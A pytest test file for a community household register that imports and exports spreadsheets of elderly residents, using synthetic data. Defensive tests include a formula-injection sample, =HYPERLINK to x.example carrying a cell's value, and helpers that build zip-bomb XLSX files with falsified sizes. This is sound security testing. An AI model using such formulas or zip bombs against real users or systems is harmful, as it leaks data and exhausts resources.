"""The household register (台账): staff spreadsheets in, the same spreadsheet out, and binding to it."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import time, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from config.settings import RegisterSettings, SettingsError, load_settings
from handlers.register.entries import adopt_register_entry, is_placeholder
from handlers.register.export import TEMPLATE_HEADERS, export_register
from handlers.register.importer import ImportReport, import_register
from handlers.register.limits import ImportLimits, RegisterFileError
from storage.db import transaction
from storage.models import Building, FamilyContact, Resident, Ticket, Visit, Worker
from tests.support import FakeClock

ROOT = Path(__file__).resolve().parents[2]
NINE_AM = 9 * 60
HEADER = [
    "姓名",
    "电话",
    "楼号",
    "单元",
    "房号",
    "户别",
    "是否独居",
    "签到时间",
    "家属姓名",
    "家属关系",
    "家属电话",
]


def write_csv(path: Path, rows: list[list[object]], encoding: str = "utf-8-sig") -> Path:
    """A CSV file as Excel saves it."""
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    """An XLSX workbook whose first sheet holds the rows."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    workbook.create_sheet("说明").append(["this second sheet is not read"])
    workbook.save(path)
    return path


def load(factory: sessionmaker[Session], path: Path, clock: FakeClock) -> ImportReport:
    """Import a file in one transaction, as the command line does."""
    with transaction(factory) as session:
        return import_register(session, path, default_checkin_minute=NINE_AM, now=clock())


def resident(factory: sessionmaker[Session], name: str) -> Resident:
    """The resident of that name, with address and family loaded."""
    with transaction(factory) as session:
        found = session.scalars(select(Resident).where(Resident.name == name)).one()
        _ = found.building, found.family
        return found


def count(factory: sessionmaker[Session], model: type) -> int:
    """Rows of one model."""
    with transaction(factory) as session:
        return session.scalar(select(func.count()).select_from(model))


def test_good_rows_create_residents_with_their_address_and_family(tmp_path, factory, clock) -> None:
    header = [*HEADER, "家属微信openid", "家属2姓名", "家属2关系", "家属2电话"]
    path = write_csv(
        tmp_path / "register.csv",
        [
            header,
            [
                "王秀英",
                "138 0000 0111",
                "2",
                "1单元",
                "402室",
                "特困",
                "是",
                "8:30",
                "李强",
                "儿子",
                "13800000211",
                "o-liqiang",
                "李娟",
                "女儿",
                "13800000212",
            ],
            ["赵德明", "13800000112", "六号楼", "二", "1101", "普通", "否", "", "", "", "", "", "", "", ""],
            ["钱  芳", "010-66660000", "4栋", "", "101", "重点", "Y", "", "", "", "", "", "", "", ""],
        ],
    )

    report = load(factory, path, clock)

    assert (report.created, report.updated, report.unchanged, report.bad) == (3, 0, 0, [])
    wang = resident(factory, "王秀英")
    assert (wang.address, wang.phone, wang.household_category) == ("2号楼1单元402", "13800000111", "hardship")
    assert (wang.lives_alone, wang.checkin_minute) == (True, 8 * 60 + 30)
    assert [(c.name, c.relation, c.phone, c.openid) for c in wang.family] == [
        ("李强", "儿子", "13800000211", "o-liqiang"),
        ("李娟", "女儿", "13800000212", None),
    ]
    assert is_placeholder(wang.openid)
    zhao = resident(factory, "赵德明")
    assert (zhao.address, zhao.lives_alone, zhao.checkin_minute, zhao.family) == (
        "6号楼2单元1101",
        False,
        None,
        [],
    )
    qian = resident(factory, "钱芳")  # spaces that align two-character names are not part of them
    assert (qian.address, qian.phone, qian.household_category) == ("4号楼101", "010-66660000", "key")
    assert qian.checkin_minute == NINE_AM  # living alone, no time given: the default


def test_headers_may_be_traditional_full_width_spaced_or_annotated(tmp_path, factory, clock) -> None:
    header = ["*姓 名", "聯繫電話", "樓號", "單元", "房號", "戶別", "獨居", "报平安时间(HH:MM)", "备注"]
    path = write_csv(
        tmp_path / "register.csv",
        [header, ["周大爷", "13800000113", "３號樓", "１", "３０２", "普通", "是的", "7点半", "腿脚不便"]],
    )

    report = load(factory, path, clock)

    assert (report.created, report.bad, report.ignored_columns) == (1, [], ["备注"])
    zhou = resident(factory, "周大爷")
    assert (zhou.address, zhou.lives_alone, zhou.checkin_minute) == ("3号楼1单元302", True, 7 * 60 + 30)


def test_emergency_contacts_as_staff_write_them_become_the_elders_family(tmp_path, factory, clock) -> None:
    header = ["居民姓名", "手机号", "楼栋", "单元", "门牌号", "独居", "紧急联系人", "关系", "联系人电话"]
    path = write_csv(
        tmp_path / "台账.csv",
        [
            header,
            ["王秀英", "13800000111", "2栋", "1", "402", "是", "李强", "儿子", "139 0000 0211"],
            ["赵德明", "无", "6栋", "2", "1101", "否", "", "", "无"],
        ],
    )

    report = load(factory, path, clock)

    assert (report.created, report.bad, report.column_notes) == (2, [], [])
    assert resident(factory, "赵德明").family == []  # 无: no contact, and the row still loads
    wang = resident(factory, "王秀英")
    assert (wang.address, wang.phone, wang.lives_alone) == ("2号楼1单元402", "13800000111", True)
    assert [(c.name, c.relation, c.phone) for c in wang.family] == [("李强", "儿子", "13900000211")]


def test_a_phone_column_right_after_a_contact_is_the_contacts_and_elsewhere_the_residents_own(
    tmp_path, factory, clock
) -> None:
    header = [
        "姓名",
        "联系电话",
        "楼号",
        "单元",
        "房号",
        "监护人",
        "联系电话",
        "与本人关系",
        "联系人",
        "联系方式",
    ]
    row = ["王秀英", "13800000111", "2", "1", "402", "李强", "13900000211", "儿子", "李娟", "13900000212"]
    path = write_csv(tmp_path / "台账.csv", [header, row])

    report = load(factory, path, clock)

    wang = resident(factory, "王秀英")
    assert wang.phone == "13800000111"
    assert [(c.name, c.relation, c.phone) for c in wang.family] == [
        ("李强", "儿子", "13900000211"),
        ("李娟", None, "13900000212"),
    ]
    assert report.column_notes == [
        "列‘联系电话’紧跟在联系人后面,当作家属电话",
        "列‘联系方式’紧跟在联系人后面,当作家属2电话",
    ]


def test_repeated_or_numbered_contact_columns_are_further_contacts(tmp_path, factory, clock) -> None:
    header = [
        "姓名",
        "楼号",
        "房号",
        "紧急联系人",
        "联系人电话",
        "紧急联系人",
        "联系人电话",
        "聯繫人3",
        "電話3",
    ]
    row = ["钱芳", "4", "101", "钱一", "13900000001", "钱二", "13900000002", "钱三", "13900000003"]
    path = write_csv(tmp_path / "台账.csv", [header, row])

    load(factory, path, clock)

    assert [(c.name, c.phone) for c in resident(factory, "钱芳").family] == [
        ("钱一", "13900000001"),
        ("钱二", "13900000002"),
        ("钱三", "13900000003"),
    ]


def test_the_report_says_which_columns_were_not_read_and_why(tmp_path, factory, clock) -> None:
    header = [
        "户主姓名",
        "姓名",
        "电话(必填)",
        "手機",
        "樓號",
        "房號",
        "备注2",
        "紧急联系电话",
        "家属2关系",
        "",
    ]
    row = [
        "王大爷",
        "王秀英",
        "010-66660000",
        "13800000111",
        "2",
        "402",
        "腿脚不便",
        "13900000211",
        "儿子",
        "x",
    ]
    path = write_csv(tmp_path / "台账.csv", [header, row])

    report = load(factory, path, clock)

    assert report.column_notes == [
        "未识别的列:备注2(不是台账的列,已忽略)",
        "列‘户主姓名’与‘姓名’都表示本人姓名,用了‘姓名’",
        "列‘电话(必填)’与‘手機’都表示本人电话,用了‘手機’",
        "列‘紧急联系电话’:没有对应的联系人姓名列,无法登记家属,已忽略",
        "列‘家属2关系’:没有对应的联系人姓名列,无法登记家属,已忽略",
    ]
    assert report.ignored_columns == ["备注2", "户主姓名", "电话(必填)", "紧急联系电话", "家属2关系"]
    wang = resident(factory, "王秀英")  # the row still loads, with what the file's read columns say
    assert (report.created, report.bad, wang.phone, wang.family) == (1, [], "13800000111", [])


def test_a_whole_address_in_one_column(tmp_path, factory, clock) -> None:
    header = ["姓名", "家庭住址", "人员类别", "是否独居"]
    rows = [
        header,
        ["周大爷", "幸福里小区三号楼二单元302室", "低保", "否"],
        ["吴阿姨", "3-1-101", "特困供养", "是"],
        ["郑叔", "幸福里东门", "", "否"],
    ]

    report = load(factory, write_csv(tmp_path / "台账.csv", rows), clock)

    assert [str(bad) for bad in report.bad] == [
        "row 4: address '幸福里东门' is not a building and room like 3号楼2单元301"
    ]
    zhou, wu = resident(factory, "周大爷"), resident(factory, "吴阿姨")
    assert (zhou.address, zhou.household_category) == ("3号楼2单元302", "key")
    assert (wu.address, wu.household_category, wu.lives_alone) == ("3号楼1单元101", "hardship", True)


def test_split_address_columns_win_over_a_whole_address(tmp_path, factory, clock) -> None:
    header = ["姓名", "楼号", "单元", "房号", "地址"]
    path = write_csv(tmp_path / "台账.csv", [header, ["周大爷", "3", "2", "302", "幸福里3号楼"]])

    report = load(factory, path, clock)

    assert report.column_notes == ["列‘地址’:楼号和房号已有单独的列,已忽略"]
    assert resident(factory, "周大爷").address == "3号楼2单元302"


def test_bad_rows_are_reported_by_row_number_and_good_rows_still_load(tmp_path, factory, clock) -> None:
    path = write_csv(
        tmp_path / "register.csv",
        [
            HEADER,
            ["甲", "13800000121", "1号楼", "1", "101", "普通", "否", "", "", "", ""],
            ["乙", "13800000122", "9号楼", "1", "102", "普通", "否", "", "", "", ""],
            ["丙", "1380000", "1号楼", "1", "103", "普通", "否", "", "", "", ""],
            ["丁", "13800000124", "1号楼", "1", "104", "困难户", "否", "", "", "", ""],
            ["戊", "13800000125", "1号楼", "1", "105", "普通", "是", "25:00", "", "", ""],
            ["", "13800000126", "1号楼", "1", "106", "普通", "否", "", "", "", ""],
            [],
            ["己", "13800000127", "1号楼", "1", "107", "普通", "否", "", "", "儿子", "13800000227"],
            ["庚", "13800000128", "1号楼", "1", "108", "普通", "否", "", "", "", ""],
        ],
    )

    report = load(factory, path, clock)

    assert [str(bad) for bad in report.bad] == [
        "row 3: building '9号楼' is not one of the community's buildings",
        "row 4: phone '*******' is not a phone number (a mobile, or a landline with its area code)",
        "row 5: household category '困难户' is not one of 特困, 重点, 普通",
        "row 6: check-in time '25:00' is not a time of day like 08:30",
        "row 7: name is missing",
        "row 9: family contact 1: name is missing",
    ]
    assert (report.created, report.summary) == (2, "created 2, updated 0, unchanged 0, bad 6")
    assert [resident(factory, name).room for name in ("甲", "庚")] == ["101", "108"]


def test_a_bad_phone_is_shown_masked(tmp_path, factory, clock) -> None:
    path = write_csv(
        tmp_path / "register.csv",
        [HEADER, ["甲", "12345678901", "1号楼", "1", "101", "普通", "否", "", "", "", ""]],
    )

    [bad] = load(factory, path, clock).bad

    assert "123****8901" in bad.reason and "12345678901" not in bad.reason


def test_the_same_person_twice_in_one_file_is_a_bad_row(tmp_path, factory, clock) -> None:
    row = ["甲", "13800000121", "1号楼", "1", "101", "普通", "否", "", "", "", ""]
    path = write_csv(tmp_path / "register.csv", [HEADER, row, row])

    report = load(factory, path, clock)

    assert report.created == 1 and [str(bad) for bad in report.bad] == ["row 3: same resident as row 2"]


def test_importing_the_same_file_twice_changes_nothing(tmp_path, factory, clock) -> None:
    path = write_csv(
        tmp_path / "register.csv",
        [
            HEADER,
            [
                "王秀英",
                "13800000111",
                "2号楼",
                "1",
                "402",
                "特困",
                "是",
                "08:30",
                "李强",
                "儿子",
                "13800000211",
            ],
            ["赵德明", "13800000112", "6号楼", "2", "1101", "普通", "否", "", "", "", ""],
        ],
    )
    load(factory, path, clock)
    family_ids = [contact.id for contact in resident(factory, "王秀英").family]

    again = load(factory, path, clock)

    assert (again.created, again.updated, again.unchanged, again.bad) == (0, 0, 2, [])
    assert count(factory, Resident) == 3 + 2
    assert [contact.id for contact in resident(factory, "王秀英").family] == family_ids


def test_a_changed_row_updates_the_resident_in_place_and_replaces_the_family(
    tmp_path, factory, clock
) -> None:
    first = ["王秀英", "13800000111", "2号楼", "1", "402", "普通", "否", "", "李强", "儿子", "13800000211"]
    load(factory, write_csv(tmp_path / "v1.csv", [HEADER, first]), clock)
    before = resident(factory, "王秀英")
    changed = ["王秀英", "13800000999", "2号楼", "1", "402", "特困", "是", "", "李娟", "女儿", "13800000212"]

    report = load(factory, write_csv(tmp_path / "v2.csv", [HEADER, changed]), clock)

    after = resident(factory, "王秀英")
    assert (report.created, report.updated) == (0, 1)
    assert (after.id, after.openid) == (before.id, before.openid)
    assert (after.phone, after.household_category, after.checkin_minute) == (
        "13800000999",
        "hardship",
        NINE_AM,
    )
    assert [(c.name, c.relation) for c in after.family] == [("李娟", "女儿")]
    assert count(factory, FamilyContact) == 1 + 1  # the demo's 张伟, and 李娟; 李强 is gone


def test_columns_the_file_lacks_are_left_as_they_are(tmp_path, factory, clock) -> None:
    path = write_csv(tmp_path / "names.csv", [["姓名", "楼号", "单元", "房号"], ["张秀兰", "3", "2", "301"]])

    report = load(factory, path, clock)

    zhang = resident(factory, "张秀兰")
    assert (report.unchanged, zhang.openid, zhang.phone) == (1, "demo-resident-zhang", "13800000101")
    assert (zhang.household_category, zhang.checkin_minute, len(zhang.family)) == ("hardship", NINE_AM, 1)


def test_a_gb18030_csv_from_excel_on_chinese_windows(tmp_path, factory, clock) -> None:
    row = ["鄭秀蘭", "13800000131", "8号楼", "1", "201", "重点", "否", "", "", "", ""]
    path = write_csv(tmp_path / "gbk.csv", [HEADER, row], encoding="gb18030")
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")

    report = load(factory, path, clock)

    assert (report.created, report.bad) == (1, [])
    assert resident(factory, "鄭秀蘭").address == "8号楼1单元201"  # names are kept as written


def test_an_xlsx_with_a_title_row_numbers_and_time_cells(tmp_path, factory, clock) -> None:
    path = write_xlsx(
        tmp_path / "register.xlsx",
        [
            ["幸福里社区第一网格台账"],
            [*HEADER, "家属2姓名", "家属2电话"],
            [
                "孙大妈",
                13800000141,
                1,
                2,
                201,
                "特困",
                "是",
                time(7, 45),
                "孙强",
                "儿子",
                13800000241,
                "孙丽",
                None,
            ],
            ["李大爷", 13800000142, "2号楼", 1, 202, "普通", "否", None, None, None, None, None, None],
            ["吴奶奶", "13800000143", "10号楼", 1, 203, "普通", "否", None, None, None, None, None, None],
        ],
    )

    report = load(factory, path, clock)

    assert report.created == 3 - 1
    assert [str(bad) for bad in report.bad] == [
        "row 5: building '10号楼' is not one of the community's buildings"
    ]
    sun = resident(factory, "孙大妈")
    assert (sun.address, sun.phone, sun.checkin_minute) == ("1号楼2单元201", "13800000141", 7 * 60 + 45)
    assert [(c.name, c.phone) for c in sun.family] == [("孙强", "13800000241"), ("孙丽", None)]


def test_an_xlsx_that_openpyxl_warns_about_loads_with_a_note(tmp_path, factory, clock) -> None:
    saved = write_xlsx(
        tmp_path / "saved.xlsx",
        [HEADER, ["孙大妈", "13800000141", "1", "2", "201", "特困", "是", time(7, 45)]],
    )
    # Some export tools write a workbook without a stylesheet: times then read as fractions of a day.
    path = tmp_path / "no-styles.xlsx"
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            empty = b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            target.writestr(item, empty if item.filename == "xl/styles.xml" else source.read(item))

    report = load(factory, path, clock)

    assert (report.created, report.bad) == (1, [])
    assert report.notes == ["XLSX reader: Workbook contains no stylesheet, using openpyxl's defaults"]
    assert resident(factory, "孙大妈").checkin_minute == 7 * 60 + 45


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "no header row"),
        ("备注,说明\n随便写的\n".encode(), "no header row with at least 姓名, 楼号 and 房号"),
        (b"\x00\x01\x02\x03\x04", "not a text file"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "not a text file"),
    ],
)
def test_an_unreadable_file_is_refused_before_anything_changes(
    tmp_path, factory, clock, content, reason
) -> None:
    path = tmp_path / "register.csv"
    path.write_bytes(content)

    with pytest.raises(RegisterFileError, match=reason):
        load(factory, path, clock)
    assert count(factory, Resident) == 3


def test_a_word_document_named_xlsx_is_refused(tmp_path, factory, clock) -> None:
    path = tmp_path / "register.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")

    with pytest.raises(RegisterFileError, match="not a readable XLSX workbook"):
        load(factory, path, clock)


def test_the_template_loads_into_the_demo_community(factory, clock) -> None:
    report = load(factory, ROOT / "config" / "register-template.csv", clock)

    assert (report.created, report.bad, report.ignored_columns) == (2, [], [])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_changes_nothing(tmp_path, factory, clock, suffix) -> None:
    rows = [
        ["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "李强", "儿子", "13800000211"],
        ["赵德明", "010-66660000", "6号楼", "", "1101", "普通", "否", "06:00", "", "", ""],
    ]
    load(factory, write_csv(tmp_path / "register.csv", [HEADER, *rows]), clock)
    with transaction(factory) as session:
        # Someone living alone but taken out of the daily check-in stays out after a round trip.
        sun = session.scalars(select(Resident).where(Resident.openid == "demo-resident-sun")).one()
        sun.checkin_minute = None
    exported = tmp_path / f"export{suffix}"
    with transaction(factory) as session:
        written = export_register(session, exported)

    report = load(factory, exported, clock)

    assert written == 3 + 2
    assert (report.created, report.updated, report.unchanged, report.bad) == (0, 0, 5, [])
    assert resident(factory, "孙桂英").checkin_minute is None


def test_the_export_has_the_templates_headers_and_hides_placeholders(tmp_path, factory, clock) -> None:
    row = ["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "李强", "儿子", "13800000211"]
    load(factory, write_csv(tmp_path / "register.csv", [HEADER, row]), clock)
    stream = io.StringIO()
    with transaction(factory) as session:
        export_register(session, stream)

    header, *rows = list(csv.reader(io.StringIO(stream.getvalue())))

    assert tuple(header) == TEMPLATE_HEADERS
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert [row[0] for row in rows] == ["王秀英", "张秀兰", "刘建华", "孙桂英"]  # by building, unit, room
    assert by_name["王秀英"]["微信openid"] == "" and by_name["张秀兰"]["微信openid"] == "demo-resident-zhang"
    assert by_name["张秀兰"]["家属微信openid"] == "demo-family-zhangwei"


def test_a_resident_who_bound_on_wechat_first_gets_a_plain_rows_details(tmp_path, factory, clock) -> None:
    with transaction(factory) as session:
        building = session.scalars(select(Building).where(Building.name == "2号楼")).one()
        session.add(Resident(openid="o-early", building=building, unit="1", room="402", created_at=clock()))
    row = ["王秀英", "", "2号楼", "1", "402", "重点", "否", "不签到", "", "", ""]

    report = load(factory, write_csv(tmp_path / "register.csv", [HEADER, row]), clock)

    assert (report.created, report.updated) == (0, 1)
    wang = resident(factory, "王秀英")
    assert (wang.openid, wang.household_category) == ("o-early", "key")


def test_an_address_bound_on_wechat_first_is_no_claim_to_a_row_with_personal_details(
    tmp_path, factory, clock
) -> None:
    with transaction(factory) as session:
        building = session.scalars(select(Building).where(Building.name == "2号楼")).one()
        session.add(Resident(openid="o-early", building=building, unit="1", room="402", created_at=clock()))
    row = ["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "李强", "儿子", "13800000211"]

    report = load(factory, write_csv(tmp_path / "register.csv", [HEADER, row]), clock)

    assert (report.created, report.updated) == (1, 0)
    wang = resident(factory, "王秀英")
    assert is_placeholder(wang.openid) and (wang.checkin_minute, len(wang.family)) == (8 * 60 + 30, 1)
    with transaction(factory) as session:
        early = session.scalars(select(Resident).where(Resident.openid == "o-early")).one()
        assert (early.name, early.phone, early.checkin_minute) == (None, None, None)


# Binding: a WeChat user binding an address takes over the register's entry for it.


def register_wang(tmp_path: Path, factory: sessionmaker[Session], clock: FakeClock) -> int:
    """Import 王秀英 at 2号楼1单元402 and record a worker's visit to her; returns her entry's id."""
    row = ["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "李强", "儿子", "13800000211"]
    load(factory, write_csv(tmp_path / "register.csv", [HEADER, row]), clock)
    with transaction(factory) as session:
        entry = session.scalars(select(Resident).where(Resident.name == "王秀英")).one()
        wang_worker = session.scalars(select(Worker).where(Worker.openid == "demo-worker-wang")).one()
        entry.last_visit_at = clock() - timedelta(days=3)
        session.add(Visit(resident_id=entry.id, worker_id=wang_worker.id, visited_at=entry.last_visit_at))
        return entry.id


def bind(session: Session, openid: str, building: str, unit: str | None, room: str) -> Resident:
    """What handle_binding does to the sender's row."""
    sender = session.scalars(select(Resident).where(Resident.openid == openid)).one()
    sender.building = session.scalars(select(Building).where(Building.name == building)).one()
    sender.unit, sender.room = unit, room
    return sender


def test_binding_to_a_registered_address_adopts_the_register_entry(tmp_path, factory, clock) -> None:
    entry_id = register_wang(tmp_path, factory, clock)
    with transaction(factory) as session:
        sender = Resident(openid="o-wang", created_at=clock(), last_message_at=clock())
        session.add(sender)
        session.flush()
        session.add(
            Ticket(
                category="repair",
                summary="水管漏了",
                resident_id=sender.id,
                ack_due_at=clock(),
                resolve_due_at=clock(),
                created_at=clock(),
                updated_at=clock(),
            )
        )
    with transaction(factory) as session:
        adopted = adopt_register_entry(session, bind(session, "o-wang", "2号楼", "1", "402"))

    assert adopted is True
    wang = resident(factory, "王秀英")
    assert (wang.openid, wang.phone, wang.household_category) == ("o-wang", "13800000111", "hardship")
    assert (wang.lives_alone, wang.checkin_minute, wang.last_visit_at) == (
        True,
        510,
        clock() - timedelta(days=3),
    )
    assert [(c.name, c.phone) for c in wang.family] == [("李强", "13800000211")]
    with transaction(factory) as session:
        assert session.get(Resident, entry_id) is None
        assert [visit.resident_id for visit in session.scalars(select(Visit))] == [wang.id]
        assert [ticket.resident_id for ticket in session.scalars(select(Ticket))] == [wang.id]
    assert count(factory, FamilyContact) == 1 + 1


def test_binding_elsewhere_or_as_someone_else_adopts_nothing(tmp_path, factory, clock) -> None:
    register_wang(tmp_path, factory, clock)
    with transaction(factory) as session:
        session.add(Resident(openid="o-other", created_at=clock()))
        session.add(Resident(openid="o-named", name="王建国", created_at=clock()))
    with transaction(factory) as session:
        elsewhere = adopt_register_entry(session, bind(session, "o-other", "2号楼", "1", "403"))
        someone_else = adopt_register_entry(session, bind(session, "o-named", "2号楼", "1", "402"))

    assert (elsewhere, someone_else) == (False, False)
    assert is_placeholder(resident(factory, "王秀英").openid)


def test_two_register_entries_at_one_address_are_not_guessed_between(tmp_path, factory, clock) -> None:
    rows = [
        ["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "", "", "", ""],
        ["王建国", "13800000112", "2号楼", "1", "402", "特困", "否", "", "", "", ""],
    ]
    load(factory, write_csv(tmp_path / "register.csv", [HEADER, *rows]), clock)
    with transaction(factory) as session:
        session.add(Resident(openid="o-wang", created_at=clock()))
    with transaction(factory) as session:
        adopted = adopt_register_entry(session, bind(session, "o-wang", "2号楼", "1", "402"))

    assert adopted is False
    assert count(factory, Resident) == 3 + 2 + 1


FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&B2,"点此")', "+1+1", "-2+3", "@SUM(1+1)"]


def test_formula_like_cells_leave_as_text_and_come_back_unchanged(tmp_path, factory, clock) -> None:
    """A name, relation or family name that looks like a formula never runs when the export is opened."""
    rows = [
        [name, f"1380000011{n}", "2号楼", "1", f"40{n}", "普通", "否", "", "＠李强", "=儿子", ""]
        for n, name in enumerate(FORMULA_NAMES)
    ]
    rows.append(["\t=1+1", "13800000119", "2号楼", "1", "409", "普通", "否", "", "", "", ""])
    assert load(factory, write_csv(tmp_path / "register.csv", [HEADER, *rows]), clock).created == 5
    as_csv, as_xlsx = tmp_path / "export.csv", tmp_path / "export.xlsx"
    with transaction(factory) as session:
        export_register(session, as_csv)
        export_register(session, as_xlsx)

    with as_csv.open(encoding="utf-8-sig", newline="") as handle:
        header, *exported = list(csv.reader(handle))
    cells = [cell for row in exported for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠"))]
    by_room = {row[4]: dict(zip(header, row, strict=True)) for row in exported}
    assert by_room["400"]["姓名"] == "'" + FORMULA_NAMES[0]
    assert (by_room["401"]["姓名"], by_room["402"]["姓名"]) == ("'+1+1", "'-2+3")
    assert (by_room["403"]["家属姓名"], by_room["403"]["家属关系"]) == ("'@李强", "'=儿子")
    assert by_room["409"]["姓名"] == "'=1+1"

    sheet = openpyxl.load_workbook(as_xlsx).worksheets[0]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    names = {row[4]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert [names[f"40{n}"] for n in range(4)] == FORMULA_NAMES and names["409"] == "=1+1"

    for exported_file in (as_csv, as_xlsx):
        again = load(factory, exported_file, clock)
        assert (again.created, again.updated, again.bad) == (0, 0, [])
    assert resident(factory, "-2+3").family[0].relation == "=儿子"


def bomb_xlsx(path: Path, rows: int, row_xml: str, declared_size: int | None = None) -> Path:
    """A real workbook whose first sheet holds `rows` copies of one row: a few hundred KB on disk.

    With declared_size, the zip's directory lies that the sheet unpacks to that many bytes.
    """
    normal = write_xlsx(path.with_suffix(".normal.xlsx"), [HEADER])
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(normal) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for entry in source.infolist():
            if entry.filename != sheet:
                bomb.writestr(entry, source.read(entry))
        header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in HEADER)
        with bomb.open(sheet, "w") as out:
            out.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            out.write(f"<row>{header}</row>".encode())
            chunk = (row_xml * 10_000).encode()
            for _ in range(rows // 10_000):
                out.write(chunk)
            out.write(b"</sheetData></worksheet>")
    if declared_size is not None:
        _declare_size(path, sheet, declared_size)
    return path


def _declare_size(path: Path, name: str, size: int) -> None:
    """Overwrite the unpacked size the zip's local header and directory give for one entry."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(name).header_offset
    data[local + 22 : local + 26] = size.to_bytes(4, "little")
    directory = data.index(b"PK\x01\x02")
    while data[directory + 46 : directory + 46 + len(name)] != name.encode():
        directory = data.index(b"PK\x01\x02", directory + 4)
    data[directory + 24 : directory + 28] = size.to_bytes(4, "little")
    path.write_bytes(data)


ROW = '<row><c t="inlineStr"><is><t>张三</t></is></c><c t="inlineStr"><is><t>13800000111</t></is></c></row>'


def test_an_xlsx_that_unpacks_to_a_gigabyte_is_refused_unread(tmp_path, factory, clock) -> None:
    bomb = bomb_xlsx(tmp_path / "台账.xlsx", rows=1_500_000, row_xml=ROW)
    assert bomb.stat().st_size < 1024 * 1024
    with zipfile.ZipFile(bomb) as archive:
        assert sum(entry.file_size for entry in archive.infolist()) > 100 * 1024 * 1024
    before = count(factory, Resident)
    with pytest.raises(RegisterFileError) as refused:
        load(factory, bomb, clock)
    assert str(refused.value) == "refused: the file holds 146 MB of data, more than 100 MB"
    assert count(factory, Resident) == before


def test_a_part_packed_like_a_zip_bomb_is_refused_unread(tmp_path, factory, clock) -> None:
    bomb = bomb_xlsx(tmp_path / "台账.xlsx", rows=200_000, row_xml=ROW)  # 19 MB in about 40 KB
    with pytest.raises(RegisterFileError, match=r"refused: xl/worksheets/sheet1\.xml unpacks \d+ times"):
        load(factory, bomb, clock)


def test_a_zip_directory_that_understates_sizes_gets_no_further(tmp_path, factory, clock) -> None:
    """Python's zipfile unpacks no more than an entry declares and then checks its CRC."""
    liar = bomb_xlsx(tmp_path / "台账.xlsx", rows=1_500_000, row_xml=ROW, declared_size=4096)
    before = count(factory, Resident)
    with pytest.raises(RegisterFileError, match="not a readable XLSX workbook"):
        load(factory, liar, clock)
    assert count(factory, Resident) == before


def test_rows_and_columns_past_the_limits_stop_the_import(tmp_path, factory, clock) -> None:
    rows = [[f"住户{n}", "", "2号楼", "1", str(100 + n), "普通", "否", "", "", "", ""] for n in range(30)]
    limits = ImportLimits(max_rows=20, max_columns=12)
    for suffix, writer in ((".csv", write_csv), (".xlsx", write_xlsx)):
        long_file = writer(tmp_path / f"long{suffix}", [HEADER, *rows])
        wide_file = writer(tmp_path / f"wide{suffix}", [HEADER, rows[0], [*rows[1], "", "备注"]])
        for path, refusal in (
            (long_file, "more than 20 rows"),
            (wide_file, "row 3 has more than 12 columns"),
        ):
            with transaction(factory) as session, pytest.raises(RegisterFileError) as refused:
                import_register(session, path, default_checkin_minute=NINE_AM, now=clock(), limits=limits)
            assert str(refused.value) == f"refused: {refusal}"
    assert count(factory, Resident) == 3  # the demo residents only


@pytest.mark.slow  # writes and scans a 50,000-row workbook: about 4 s idle
def test_a_sheet_with_more_rows_than_allowed_is_refused_before_openpyxl_reads_it(
    tmp_path, factory, clock
) -> None:
    """openpyxl parses every sheet from end to end when it opens a workbook: rows are counted first."""
    path = tmp_path / "台账.xlsx"
    workbook = openpyxl.Workbook(write_only=True)
    register = workbook.create_sheet("台账")
    register.append(HEADER)
    register.append(["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "", "", ""])
    log = workbook.create_sheet("走访记录")  # not read by the import, but opened (and parsed) all the same
    for n in range(50_001):
        log.append([f"2026-11-{n % 28 + 1:02d}", "走访", n, "情况良好"])
    workbook.save(path)
    with pytest.raises(RegisterFileError) as refused:
        load(factory, path, clock)
    assert str(refused.value) == "refused: xl/worksheets/sheet2.xml has more than 50000 rows"
    assert count(factory, Resident) == 3


def test_the_limits_are_settings_checked_at_start() -> None:
    assert load_settings(environ={}).register == RegisterSettings(50_000, 100, 100, 100)
    assert load_settings(environ={"GRIDDESK_REGISTER_MAX_ROWS": "80000"}).register.max_rows == 80_000
    with pytest.raises(SettingsError, match=r"max_compression_ratio\): expected a whole number from 1"):
        load_settings(environ={"GRIDDESK_REGISTER_MAX_COMPRESSION_RATIO": "0"})
